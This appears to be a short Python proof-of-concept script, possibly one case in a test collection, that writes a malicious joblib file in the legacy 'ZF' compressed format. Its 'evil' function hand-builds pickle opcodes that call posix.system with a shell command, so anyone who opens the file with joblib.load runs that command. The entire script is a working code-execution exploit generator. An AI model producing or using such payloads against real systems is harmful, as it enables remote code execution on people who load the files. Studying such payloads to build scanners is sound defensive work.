# joblib's pre-0.9.3 "ZF" format: b'ZF' + hex length + zlib stream; joblib.load decompresses and unpickles it
from h import *
import zlib
from joblib.numpy_pickle_compat import _MAX_LEN
def evil(n):
    return b'\x80\x02cposix\nsystem\nX'+struct.pack('<I',len(sh(n)))+sh(n).encode()+b'\x85R.'
p=evil(4)
data=b'ZF'+('%x'%len(p)).ljust(_MAX_LEN).encode()+zlib.compress(p)
open('joblib_zf.pkl','wb').write(data)
report('joblib_zf.pkl',4,'joblib')
